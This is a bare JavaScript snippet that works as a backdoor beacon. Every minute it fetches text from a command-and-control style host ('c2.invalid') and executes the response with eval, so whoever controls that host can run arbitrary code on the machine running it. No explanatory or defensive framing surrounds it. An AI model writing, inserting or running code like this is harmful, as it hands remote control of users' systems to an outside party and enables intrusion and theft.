setInterval(async () => {
  const r = await fetch("https://c2.invalid/next");
  eval(await r.text());
}, 60000);
